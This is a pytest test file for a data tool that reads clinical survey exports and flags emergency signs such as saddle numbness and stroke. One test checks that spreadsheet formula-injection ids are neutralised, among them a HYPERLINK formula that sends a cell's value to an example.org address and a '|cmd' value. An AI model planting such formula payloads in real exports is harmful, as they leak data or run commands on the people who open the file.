"""Files as people have them, each with its right value: see the folder ``found``."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.command import Done, run
from tests.examples import quick_first

FOUND = Path(__file__).with_name("found")


def batch(name: str, *more: str) -> Done:
    """A batch of one of the files, with rows as JSON Lines. Options with a dot are files too."""
    options = [str(FOUND / each) if each.endswith("-map.yaml") else each for each in more]
    return run("batch", str(FOUND / name), "-f", "jsonl", *options)


def rows(done: Done) -> list[dict[str, Any]]:
    return [json.loads(line) for line in done.out.splitlines()]


def told(done: Done) -> dict[str, tuple[str | None, list[str]]]:
    """Each row by its id: its outcome or kind of fault, and its red flags."""
    found = rows(done)
    assert len({row["id"] for row in found}) == len(found)
    return {row["id"]: (row["outcome"] or row["error_kind"], row["red_flags"]) for row in found}


SADDLE, STROKE = "rf_saddle_numbness", "rf_stroke_signs"


def test_damaged_rows_keep_their_ids_and_hide_no_emergency() -> None:
    done = batch("lost.csv", "--ignore", "note")
    assert told(done) == {
        "3": ("o_tibial", []),
        "7": ("syntax", [SADDLE]),
        "8": ("encoding", [SADDLE]),
        "9": ("width", [SADDLE]),
        "4": ("o_tibial", []),
        "5": ("o_tibial", []),
    }
    assert "3 rows without a result hold an emergency sign" in " ".join(done.err.split())


def test_an_id_that_comes_twice_is_told() -> None:
    done = batch("redcap-long.csv", "--map", "redcap-long-map.yaml")
    assert [(row["id"], row["error_kind"]) for row in rows(done)] == [
        ("501", None),
        ("501", "repeated_id"),
        ("502", None),
    ]
    assert rows(done)[1]["red_flags"] == [SADDLE] and done.code == 4
    visits = batch("redcap-long.csv", "--map", "redcap-long-map.yaml", "--repeated-ids")
    assert visits.code == 0 and rows(visits)[1]["outcome"] == "o_em_cauda_equina"


@pytest.mark.full
def test_duckdb_says_that_an_id_comes_twice(tmp_path: Path) -> None:
    options = ("--engine", "duckdb", "-o", str(tmp_path / "out.jsonl"))
    done = batch("redcap-long.csv", "--map", "redcap-long-map.yaml", *options)
    assert done.code == 4 and "1 row has the id of a row before" in done.err
    visits = batch("redcap-long.csv", "--map", "redcap-long-map.yaml", "--repeated-ids", *options)
    assert visits.code == 0


def test_a_fault_in_an_answer_does_not_hide_the_sign_beside_it() -> None:
    done = batch("none-and.csv")
    found = told(done)
    assert {id: kind for id, (kind, _) in found.items()} == {
        "p1": "stands_alone",
        "p2": "twice",
        "p3": "unknown_option",
        "p4": "unknown_option",
        "p5": "unknown_option",
        "p6": "stands_alone",
        "p7": "width",
    }
    assert all(STROKE in flags for _, flags in found.values())
    assert SADDLE in found["p7"][1]


def test_keys_that_stand_twice_and_unknown_ones_hide_no_sign() -> None:
    found = told(batch("none.jsonl"))
    assert found["r1"] == ("stands_alone", [STROKE])
    assert found["r2"] == ("o_em_cauda_equina", [SADDLE])
    assert found["r3"] == ("syntax", [SADDLE])
    assert found["r4"] == ("unknown_option", [STROKE, "rf_older_attack"])
    assert found["r5"] == ("unknown_question", [SADDLE])


def test_a_bad_case_of_a_json_list_stops_no_other() -> None:
    assert told(batch("dup-in-one.json")) == {
        "k1": ("o_tibial", []),
        "k2": ("syntax", []),
        "k3": ("o_em_cauda_equina", [SADDLE]),
        "k4": ("o_tibial", []),
    }


@pytest.mark.parametrize("suffix", ["json", "yaml"])
@pytest.mark.parametrize(
    "bad",
    [
        '{"id": "b", "saddle": "yes",, }',
        '{"id": "b", "saddle": "yes"',
        '{"id": "b" "saddle": "yes"}',
    ],
)
def test_a_case_that_cannot_be_read_stops_no_other_of_its_list(
    tmp_path: Path, bad: str, suffix: str
) -> None:
    source = tmp_path / f"list.{suffix}"
    source.write_text(f'[{{"id": "a", "saddle": "yes"}},\n{bad},\n{{"id": "c", "saddle": "yes"}}]')
    assert told(run("batch", str(source), "-f", "jsonl")) == {
        "a": ("o_em_cauda_equina", [SADDLE]),
        "b": ("syntax", [SADDLE]),
        "c": ("o_em_cauda_equina", [SADDLE]),
    }


@pytest.mark.parametrize("engine", quick_first(["plain", "duckdb"]))
def test_no_spreadsheet_runs_an_id(tmp_path: Path, engine: str) -> None:
    target = tmp_path / "out.csv"
    done = run("batch", str(FOUND / "formula.csv"), "--engine", engine, "-o", str(target))
    with target.open(newline="") as file:
        ids = [row["id"] for row in csv.DictReader(file)]
    assert ids == [
        '\'=HYPERLINK("http://example.org/?"&A1)',
        "'+1-2",
        "'@SUM(A1)",
        "'-2+3|cmd",
        "x",
    ]
    assert "4 ids begin like a formula" in " ".join(done.err.split())


def test_ids_that_a_spreadsheet_has_shortened_are_told(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id,saddle\n1.23E+14,yes\n1.24E+14,yes\nE+1,yes\n")
    assert "2 ids look as if" in " ".join(run("batch", str(source), "-f", "csv").err.split())


def test_no_row_without_an_id_has_the_name_of_another(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id,saddle\n3,yes\n,yes\nline 3,yes\n")
    done = run("batch", str(source), "-f", "csv")
    found = list(csv.DictReader(io.StringIO(done.out)))
    assert [(row["id"], row["error_kind"]) for row in found] == [
        ("3", ""),
        ("line 3", ""),
        ("line 4", "id"),
    ]


# What nothing means


def test_codes_for_no_answer_and_numbers_as_programs_write_them(tmp_path: Path) -> None:
    map = tmp_path / "map.yaml"
    map.write_text('missing: ["-99", NASK, UNK]\n' + (FOUND / "codes-map.yaml").read_text())
    assert told(batch("codes.csv", "--map", str(map))) == {
        "a": ("o_tibial", []),
        "b": ("o_tibial", []),
        "c": ("o_em_cauda_equina", [SADDLE]),
        "d": ("o_em_blood_flow", ["rf_cold_pale_leg"]),
        "e": ("missing", []),
    }


def test_duckdb_refuses_codes_for_no_answer(tmp_path: Path) -> None:
    map = tmp_path / "map.yaml"
    map.write_text('missing: ["-99"]\n')
    target = tmp_path / "out.csv"
    done = run(
        *("batch", str(FOUND / "codes.csv"), "--map", str(map)),
        *("--engine", "duckdb", "-o", str(target)),
    )
    assert done.code != 0 and "but not translate its values" in done.err
    assert not target.exists()


@pytest.mark.parametrize("engine", quick_first(["plain", "duckdb"]))
def test_the_same_id_in_another_form_is_the_same(tmp_path: Path, engine: str) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id,saddle\nRen\u00e9,yes\nRene\u0301,yes\n", encoding="utf-8")
    done = run("batch", str(source), "--engine", engine, "-o", str(tmp_path / "out.csv"))
    assert done.code == 4 and "a row before" in done.err


def test_numbers_are_numbers_only_where_all_values_are(tmp_path: Path) -> None:
    source, map = tmp_path / "in.csv", tmp_path / "map.yaml"
    source.write_text('id,s\na,1.0\nb,"1,0"\nc,x\n')
    map.write_text("columns: {s: {to: saddle, values: {'1': yes, x: not_sure}}}\n")
    found = told(run("batch", str(source), "-f", "jsonl", "--map", str(map)))
    assert [kind for kind, _ in found.values()] == [
        *("unknown_value", "unknown_value", "o_em_cauda_equina"),
    ]


def test_the_same_letter_in_another_form_is_the_same() -> None:
    assert told(batch("nfd.csv", "--map", "nfc-map.yaml")) == {"a": ("missing", [])}


@pytest.mark.full
def test_a_thousand_unknown_values_are_compared_with_few_others(tmp_path: Path) -> None:
    from unittest.mock import patch

    from kneenumb.model import suggest

    source, map = tmp_path / "in.csv", tmp_path / "map.yaml"
    source.write_text("id,s\n" + "".join(f"p{at},value {at} here\n" for at in range(1_000)))
    map.write_text(
        json.dumps(
            {
                "columns": {
                    "s": {"to": "saddle", "values": {f"value {at}": "no" for at in range(400)}}
                }
            }
        )
    )
    with patch.object(suggest, "closest", wraps=suggest.closest) as compared:
        done = run("batch", str(source), "-f", "jsonl", "--map", str(map))
    assert {row["error_kind"] for row in rows(done)} == {"unknown_value"}
    values = [each for each in compared.call_args_list if each.args[0].startswith("value")]
    assert len(values) == suggest.MOST_SUGGESTED


# Columns as they come


def test_further_headings_are_told_and_are_no_people(tmp_path: Path) -> None:
    done = batch("qualtrics.csv")
    assert done.code == 4 and "Use --heading-lines 3." in done.err
    map = tmp_path / "map.yaml"
    map.write_text(
        "columns: {ResponseId: id, whole_body: {to: whole_body, split: ','}}\nheading_lines: 3\n"
        "ignore: [StartDate, EndDate, Status, IPAddress, Progress, 'Duration*', Finished]\n"
    )
    assert told(batch("qualtrics.csv", "--map", str(map))) == {
        "R_aaaa1": ("o_fibular", []),
        "R_aaaa2": ("o_em_stroke", [STROKE, "rf_older_attack"]),
    }


def test_columns_without_a_name_are_meant_by_their_place(tmp_path: Path) -> None:
    options = ("--heading-lines", "2", "--ignore", "Respondent ID")
    assert batch("surveymonkey.csv").err.count("--heading-lines 2") == 1
    done = batch("surveymonkey.csv", *options, "--ignore", "")
    assert done.code == 4 and not done.out
    assert "would drop the column #5, and 'stroke_signs' stands in it" in done.err
    done = batch("surveymonkey.csv", *options)
    assert done.code == 4 and "The column #5 has no name" in done.err
    map = tmp_path / "map.yaml"
    names = ("older_attack", "stroke_signs", "chest_or_breath", "none")
    places = dict(zip(("#4", "#5", "#6", "#7"), names, strict=True))
    map.write_text(
        json.dumps(
            {
                "heading_lines": "2",
                "columns": {"Respondent ID": "id"}
                | {
                    place: {"to": f"whole_body.{name}", "values": {name: "yes"}}
                    for place, name in places.items()
                },
            }
        )
    )
    found = told(batch("surveymonkey.csv", "--map", str(map)))
    assert found["1186"] == ("o_em_stroke", [STROKE, "rf_older_attack"])
    assert found["1187"] == ("o_tibial", [])


def test_an_empty_column_without_a_name_is_dropped_and_said() -> None:
    done = batch("trail.csv")
    assert told(done) == {"a": ("o_tibial", [])}
    assert "left out, being empty: #14" in done.err


def test_a_pattern_covers_columns_and_says_how_many() -> None:
    options = [each for name in ("name", "dob", "email", "sf36_*") for each in ("--ignore", name)]
    done = batch("wide.csv", *options, "--ignore", "record_id")
    assert "--ignore 'sf36_*' covers 60 columns." in done.err
    assert {row["error_kind"] for row in rows(done)} == {"missing"}
    assert "covers no column" in batch("wide.csv", *options, "--ignore", "sf12_*").err


def test_a_pattern_does_not_cover_answers(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id,saddle,x1,x2\na,no,,\nb,no,,new_change\n")
    done = run("batch", str(source), "--ignore", "x*", "-f", "csv")
    assert done.code == 4 and "in.csv:3:1: --ignore 'x*' would drop" in done.err
    assert run("batch", str(source), "--ignore", "x1", "--ignore", "x2", "-f", "csv").out


def test_a_heading_that_is_the_words_of_a_question_leads_to_a_first_map(tmp_path: Path) -> None:
    assert "--map-template" in batch("gforms.csv").err
    source = tmp_path / "in.csv"
    source.write_text('id,"Between the legs"\na,no\n')
    done = run("batch", str(source), "-f", "csv")
    assert "has the words of 'saddle'" in done.err and "--map-template" in done.err


def template(name: str, *more: str) -> str:
    return run("batch", str(FOUND / name), "--map-template", *more).out


def test_a_first_map_lists_values_that_did_not_occur() -> None:
    for line in ("whole_body___stroke_signs", "whole_body___not_sure"):
        piece = template("redcap.csv").split(f'"{line}":\n')[1].split('  "')[0]
        assert '"0": no' in template("redcap.csv").split(f'"{line}":\n')[1][:120], piece
        assert '"1": yes' in template("redcap.csv").split(f'"{line}":\n')[1][:120], piece
    found = template("lime.csv")
    assert '"whole_body[stroke_signs]":\n    to: whole_body.stroke_signs' in found
    assert '"N": no\n      "Y": yes' in found and 'missing: ["N/A"]' in found
    assert '"background[other]":\n    to:\n' in found


def test_a_first_map_proposes_an_id_and_what_may_be_meant() -> None:
    for name, header in (("redcap-codes.csv", "record_id"), ("odk.csv", "KEY")):
        assert f'"{header}":\n    to: id\n' in template(name)
    assert '"ResponseId":\n    to: id\n' in template("qualtrics.csv", "--heading-lines", "3")
    assert "# Each is one of: yes, no, not_sure" in template("redcap-codes.csv")


def test_several_options_in_one_cell_are_told_by_what_is_between_them() -> None:
    for name, map in (("odk.csv", ["--ignore", "KEY"]), ("none-and.csv", [])):
        errors = [row["error"] or "" for row in rows(batch(name, *map))]
        (several,) = [each for each in errors if "stroke_signs older_attack" in each]
        assert "several options, with a blank between them" in several
        assert "Did you mean" not in several
    assert told(batch("odk.csv", "--map", "odk-map.yaml"))["u-2"][0] == "o_em_stroke"


# Files as they come


def test_zipped_tables_are_read() -> None:
    plain, zipped = (batch(name, "--map", "odk-map.yaml") for name in ("odk.csv", "odk.csv.gz"))
    assert zipped.out == plain.out and "o_tibial" in zipped.out


def test_what_excel_says_of_its_delimiter_is_understood() -> None:
    assert told(batch("sep.csv")) == {"a": ("o_tibial", [])}


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("excel_utf8.csv", "separated by ';'"),
        ("win.csv", "Read as Windows-1252, as in"),
        ("unicode.txt", "Read as UTF-16"),
        ("forms.xlsx", "Read from the sheet 'Sheet'"),
        ("gforms.csv", ""),
    ],
)
def test_the_same_answers_from_every_kind_of_file(tmp_path: Path, name: str, said: str) -> None:
    columns = {"#3": "saddle", "#4": "bladder_bowel"}
    values = {"No, the feeling there is normal": "no", "Not sure": "not_sure", "No change": "no"}
    map = tmp_path / "map.yaml"
    map.write_text(
        json.dumps(
            {
                "columns": {
                    place: {"to": to, "values": values if to == "saddle" else {"No change": "no"}}
                    for place, to in columns.items()
                },
                "ignore": [f"#{at}" for at in (1, 2, *range(5, 16))],
            }
        )
    )
    done = batch(name, "--map", str(map))
    assert said in done.err
    assert [row["error_kind"] for row in rows(done)] == ["missing", "missing", None]
    assert rows(done)[2]["red_flags"] == [SADDLE]


def test_utf_16_without_a_mark_is_read_and_said() -> None:
    done = batch("u16le.csv")
    assert told(done) == {"a": ("o_tibial", [])} and "Read as UTF-16" in done.err


def test_an_encoding_can_be_said(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes("id,saddle\nJosé,yes\n".encode("latin-1"))
    assert rows(run("batch", str(source), "-f", "jsonl"))[0]["error_kind"] == "encoding"
    done = run("batch", str(source), "-f", "jsonl", "--encoding", "windows-1252")
    assert told(done) == {"José": ("o_em_cauda_equina", [SADDLE])}
    done = run("batch", str(source), "-f", "jsonl", "--encoding", "klingon")
    assert done.code == 4 and "There is no encoding 'klingon'" in done.err


def test_a_table_that_may_be_parted_in_two_ways_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id;x,saddle\na;b,yes\n")
    done = run("batch", str(source), "-f", "jsonl")
    assert done.code == 4 and "may be separated by ',' or ';'" in done.err


def test_a_parquet_file_is_read_like_the_table_it_was(tmp_path: Path) -> None:
    map = tmp_path / "map.yaml"
    map.write_text(
        "columns: {record_id: id, saddle: {to: saddle, values: {'0': no, '1': yes}}}\n"
        "ignore: ['*_*', bladder, weakness, legs, walk, area, painstart]\n"
    )
    found = [batch(name, "--map", str(map)) for name in ("redcap-codes.csv", "redcap.parquet")]
    assert found[0].out.replace("redcap-codes.csv", "redcap.parquet") == found[1].out
    assert told(found[1])["2"] == ("o_em_cauda_equina", [SADDLE])


@pytest.mark.parametrize("name", ["forms.xlsx", "redcap.parquet"])
def test_a_library_that_is_not_there_is_named(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from kneenumb.cases import spreadsheet_file

    monkeypatch.setattr(spreadsheet_file, "find_spec", lambda _: None)
    done = batch(name)
    extra = "excel" if name.endswith("xlsx") else "parquet"
    assert done.code == 4 and f"pip install 'kneenumb[{extra}]'" in done.err


def test_folders_are_read_to_the_bottom_and_other_files_are_told() -> None:
    done = batch("folder")
    assert told(done) == {
        "b": ("o_sciatica", []),
        "a": ("o_em_cauda_equina", ["rf_bladder_bowel_new"]),
        "1": ("o_tibial", []),
        "2": ("o_em_cauda_equina", [SADDLE]),
    }
    assert "not: note.txt, t.csv, x.jsonl" in done.err


# Messages


def test_what_is_wrong_with_a_case_is_said_in_the_right_words(tmp_path: Path) -> None:
    found = {row["id"]: row["error"] for row in rows(batch("anchor.yaml"))}
    assert found["k1"] is None
    assert "an anchor of another case is not known" in found["k2"]
    assert "an anchor of another case is not known" in found["line 7"]
    bad = rows(batch("badvalue.json"))
    assert bad[0]["error_kind"] == "unknown_option" and bad[1]["urgency"] == "emergency"
    source = tmp_path / "in.jsonl"
    source.write_text('{"id": "a", "saddle": {"yes": 1}}\n')
    (row,) = rows(run("batch", str(source), "-f", "jsonl"))
    assert "is one text or a list of texts, and has no keys" in row["error"]
    assert row["red_flags"] == [SADDLE]
    source = tmp_path / "in.yaml"
    source.write_text('- {id: a, saddle: "\\ud800"}\n')
    (row,) = rows(run("batch", str(source), "-f", "jsonl"))
    assert "half a character" in row["error"]


def test_check_finds_twins_and_values_that_never_decide() -> None:
    twins = run("check", str(FOUND / "duplabel.yaml"), "-f", "json")
    assert [each["rule"] for each in json.loads(twins.out)["findings"]] == ["twin-options"]
    assert twins.code == 1
    dead = run("check", str(FOUND / "partial2.yaml"), "-f", "json")
    assert [each["rule"] for each in json.loads(dead.out)["findings"]] == ["dead-value"]
